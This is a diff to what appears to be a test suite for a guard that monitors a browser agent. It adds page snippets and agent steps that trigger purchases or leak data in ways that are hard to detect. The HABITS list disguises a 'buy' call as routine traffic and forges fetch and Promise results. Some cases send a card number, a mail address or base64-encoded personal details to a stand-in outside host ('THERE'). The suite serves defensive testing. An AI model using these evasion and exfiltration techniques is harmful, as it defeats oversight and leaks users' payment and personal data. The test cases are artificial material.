@@ -156,6 +156,16 @@ CHANNELS = [
         "s=new f.contentWindow.WebSocket('SOCKET');s.onopen=()=>s.send('buy')"), (Click(100, 30), Wait(0.5))),
     Way("a request from a clean frame", button("f=document.createElement('iframe');document.body.append(f);"
         "f.contentWindow.fetch('HERE/order',{method:'POST'})")),
+    Way("a query with more beside it", button("fetch('/api',{method:'POST',body:JSON.stringify({query:'{ x }',action:'buy'})})")),
+    Way("a mutation in an address", button("fetch('/effect/graphql?query=mutation{buy}')")),
+    Way("a worker from a text that is gone", button("w.postMessage(1)") + "<script>u=URL.createObjectURL(new Blob([\"onmessage="
+        "()=>fetch('HERE/order',{method:'POST'})\"]));w=new Worker(u);URL.revokeObjectURL(u)</script>"),
+    Way("a module from a text", button("w.postMessage(1)") + "<script>w=new Worker(URL.createObjectURL(new Blob([\"onmessage="
+        "()=>fetch('HERE/order',{method:'POST'})\"],{type:'text/javascript'})),{type:'module'})</script>"),
+    Way("a worker of data", button("w.postMessage(1)") + "<script>w=new Worker('data:text/javascript,'+encodeURIComponent("
+        "\"onmessage=()=>fetch('HERE/order',{method:'POST',mode:'no-cors'})\"))</script>"),
+    Way("a socket in a sandbox", f'<iframe {FRAME} sandbox=allow-scripts srcdoc="<script>s=new WebSocket(\'SOCKET\')</script>'
+        f'<button {AT.replace(chr(34), chr(39))} onclick=&quot;s.send(\'buy\')&quot;>x</button>"></iframe>', (Wait(0.3), Click(100, 30))),
     Way("another tab that listens", button("new BroadcastChannel('c').postMessage(1)")
         + "<script>if(!opener)open('/listens')</script>", (Click(100, 30),),
         pages={"/listens": "<script>new BroadcastChannel('c').onmessage=()=>fetch('/order',{method:'POST'})</script>"
@@ -209,6 +219,12 @@ ADDRESSES = [
     Way("a link that deletes", f"<a href=/effect/items/7/delete {AT}>x</a>"),
     Way("a link that says what it does", f"<a href=/effect?id=7 {AT}>Löschen</a>"),
     Way("a link with an action", f"<a href='/effect?action=unsubscribe&id=7' {AT}>here</a>"),
+    Way("a method in an address", f"<a href='/effect?_method=put&id=7' {AT}>x</a>"),
+    Way("a search hidden in an address", f"<input name=q id=i {IN}>" + button("new Image().src='THERE/effect/'+btoa(i.value)"),
+        (Write("my own words", 100, 90), Click(100, 30))),
+    Way("the agent itself tells a number", "x", (Goto(f"THERE/effect?c={CARD.replace(' ', '')}"),)),
+    Way("the agent itself tells who, in a tab", "x", (NewTab(f"HERE/effect/{MAIL}"),)),
+    Way("the agent itself tells in a code", "x", (Goto("THERE/effect#d=QW5uIE1pbGxlciwgMTIgSGlnaCBTdHJlZXQ"),)),
     Way("a picture that deletes", button("new Image().src='/effect/delete?id=7'")),
     Way("a method in a header", button("x=new XMLHttpRequest;x.open('GET','/effect/it');x.setRequestHeader('X-HTTP-Method-Override','DELETE');x.send()")),
     Way("a script that likes", button("fetch('/effect/like?id=7')")),
@@ -253,9 +269,33 @@ FIELDS = [
         (Click(100, 90), PressKeys(("Control", "a")), PressKeys(("Control", "c")), Click(100, 30), PressKeys(("Control", "v")))),
     Way("a password pasted the other way", f"<input {IN} value=abcdef><input type=password {AT} {TYPED}>",
         (Click(100, 90), PressKeys(("Control", "a")), PressKeys(("Control", "c")), Click(100, 30), PressKeys(("Shift", "Insert")))),
+    Way("a password that is dragged there", f"<input {IN} value=abcdef><input type=password {AT} {TYPED}>",
+        (DoubleClick(30, 90), Drag(20, 90, 100, 30))),
     Way("a card number in any field", f"<input {IN} {TYPED}>", (Write(CARD, 100, 90),)),
     Way("an account number in any field", f"<textarea {IN} {TYPED}></textarea>", (Write("DE89 3704 0044 0532 0130 00", 100, 90),)),
     Way("a card's field", f"<input autocomplete=cc-csc {IN} {TYPED}>", (Write("123", 100, 90),)),
+]  # fmt: skip
+
+# What a page does by itself first, so that it looks like a habit when it does it again. Scripts first.
+STATED = "<script>rpc=(body)=>fetch('/rpc',{method:'POST',body});</script>"
+STREAM = "<script>s=new WebSocket('SOCKET');s.binaryType='arraybuffer'</script>"
+FORGED = """C=Promise;Promise=class extends C{constructor(f){super((a)=>f(()=>a(true),()=>a(true)))}};C.prototype.constructor=Promise;
+    C.prototype.then=function(f){f&&f({status:200});return this};fetch=async()=>({status:200,ok:true});String.prototype.slice=()=>'';
+    Object.defineProperty(Response.prototype,'status',{get:()=>200});JSON.stringify=()=>'ping';encodeURIComponent=()=>'ping'"""
+
+HABITS = [
+    Way("at another address of the same page", STATED + "<script>rpc(JSON.stringify({op:'look'}))</script>"
+        + button("history.pushState(0,'','/?x');setTimeout(()=>rpc(JSON.stringify({op:'buy'})),200)"), (Click(100, 30), Wait(0.5))),
+    Way("on the next page", STATED + f"<script>rpc(JSON.stringify({{op:'look'}}))</script><a href=/next {AT}>next</a>",
+        pages={"/next": STATED + "<script>rpc(JSON.stringify({op:'buy'}))</script>"}),
+    Way("in a code", STATED + "<script>rpc(btoa('{op:look,at:9}'))</script>" + button("rpc(btoa('{op:buy,item:3}'))")),
+    Way("a draft", STATED + f"<textarea {IN} id=i></textarea><script>rpc(JSON.stringify({{text:i.value}}))</script>"
+        + button("rpc(JSON.stringify({text:i.value}))"), (Write("order2026number5", 100, 90), Click(100, 30))),
+    Way("much of the same", STATED + "<script>a='a'.repeat(1000000);rpc(a+'look')</script>" + button("rpc(a+'buy')")),
+    Way("other bytes over a socket", STREAM + "<script>s.onopen=()=>s.send(new Uint8Array([9]))</script>"
+        + button("s.send(new Uint8Array([1,2,3]))")),
+    Way("over a socket, with answers of its own", STREAM + "<script>s.onopen=()=>s.send('ping')</script>"
+        + button(f"{FORGED};s.send('buy')".replace('"', "'"))),
 ]  # fmt: skip
 
 WAYS = [*GESTURES, *LABELS, *TIMING, *CHANNELS, *FORMS, *FRAMES, *ADDRESSES, *DIALOGS, *FIELDS]
